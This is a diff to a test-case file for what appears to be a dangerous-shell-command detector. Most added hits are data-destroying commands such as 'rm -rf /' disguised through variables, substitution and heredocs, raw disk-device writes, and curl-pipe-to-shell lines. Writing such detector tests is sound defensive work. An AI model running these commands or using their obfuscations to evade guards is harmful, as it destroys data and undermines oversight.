@@ -27,10 +27,23 @@ export const CASES: Record<string, Cases> = {
       "$'\\x72m' -rf /",
       'cd / && rm -rf *',
       'cd /; rm -rf ./*',
+      'pushd / && rm -rf *',
       'for d in /etc /tmp; do rm -rf "$d"; done',
       'X=/; rm -rf $X',
       'OPTS="-rf /"; rm $OPTS',
       'rm -rf "${UNSET:-/}"',
+      'rm -rf /.',
+      'rm -Rf "/"',
+      'rm --rec -f /',
+      'rm -rf ~root',
+      'rm -rf ~alice/',
+      'rm -rf $(echo /etc)',
+      '$(echo rm) -rf /',
+      'A=r; B=m; $A$B -rf /',
+      'cd && rm -rf *',
+      'cd ~ && rm -rf ./*',
+      'cd "$HOME"; rm -rf .',
+      'cd /etc && rm -rf "$PWD"',
     ],
     misses: [
       'rm -rf node_modules',
@@ -42,6 +55,9 @@ export const CASES: Record<string, Cases> = {
       "rm -rf '~'/x",
       '(cd / && ls); rm -rf build/*',
       'X=/tmp/a; rm -rf $X',
+      'cd ~ && rm -rf old',
+      'cd ~/x && rm -rf *',
+      'cd /tmp/x && rm -rf "$PWD"',
     ],
   },
   'rm-no-preserve-root': {
@@ -50,7 +66,7 @@ export const CASES: Record<string, Cases> = {
   },
   'rm-empty-variable': {
     hits: ['rm -rf "$X"/*', 'rm -rf $X/', 'rm -rf "${OUT}/"', 'rm -rf $(locate it)/*'],
-    misses: ['rm -rf "$X"', 'rm -rf "${X:?}"/*', 'rm -rf "$X/build"', 'X=out; rm -rf "$X"/*'],
+    misses: ['rm -rf "$X"', 'rm -rf "${X:?}"/*', 'rm -rf "$X/build"', 'X=out; rm -rf "$X"/*', 'X=; rm -rf "$X"'],
   },
   'rm-project': {
     hits: [
@@ -62,6 +78,8 @@ export const CASES: Record<string, Cases> = {
       'rm -rf $PWD',
       'rm -rf $(pwd)',
       'rm -rf /proj',
+      'find . -delete',
+      'find . -type f -exec rm {} +',
     ],
     misses: ['rm -rf .git/hooks', 'rm -rf dist/*', 'cd dist && rm -rf *', 'rm -rf /project'],
   },
@@ -71,7 +89,7 @@ export const CASES: Record<string, Cases> = {
   },
   'find-delete': {
     hits: ['find / -delete', 'find -L /etc -delete', 'find ~ -type f -exec rm -rf {} \\;', 'find / -exec /bin/rm {} +'],
-    misses: ['find . -delete', 'find /tmp/x -delete', 'find / -type f -print', 'find / -exec grep rm {} +'],
+    misses: ['find build -delete', 'find /tmp/x -delete', 'find / -type f -print', 'find / -exec grep rm {} +'],
   },
   'find-delete-some': { hits: ["find / -name '*.pyc' -delete"], misses: ["find . -name '*.pyc' -delete"] },
   'xargs-rm-protected': {
@@ -91,7 +109,13 @@ export const CASES: Record<string, Cases> = {
     misses: ['chmod -R 755 dist', 'chmod 777 /tmp/x', 'chmod +x /usr/local/bin/x'],
   },
   'device-written': {
-    hits: ['cat x > /dev/sda', ': >| /dev/nvme0n1', 'echo 1 &> /dev/mapper/root'],
+    hits: [
+      'cat x > /dev/sda',
+      ': >| /dev/nvme0n1',
+      '{ cat x; } > /dev/sda',
+      'while read l; do echo $l; done > /dev/sdb',
+      'echo 1 &> /dev/mapper/root',
+    ],
     misses: ['cat x > /dev/null', 'ls 2> /dev/stderr', 'cat < /dev/sda'],
   },
   'device-written-by-argument': {
@@ -120,6 +144,8 @@ export const CASES: Record<string, Cases> = {
     hits: [
       'curl -fsSL https://x.example | sh',
       'curl x | sudo bash -s -- --yes',
+      'curl x | (cd y && bash)',
+      'curl x | while true; do sh; done',
       'wget -qO- x | python3',
       'wget -qO- x | python3 -',
       'curl x | tee /tmp/i | bash',
@@ -221,6 +247,7 @@ export const WAYS = [
   'f() { rm -rf /; }; f',
   '! rm -rf /',
   'bash <<EOF\nrm -rf /\nEOF',
+  '{ cd y; bash; } <<EOF\nrm -rf /\nEOF',
   'sudo sh <<-EOF\n\trm -rf /\n\tEOF',
   "bash <<< 'rm -rf /'",
   "echo 'rm -rf /' | sh",
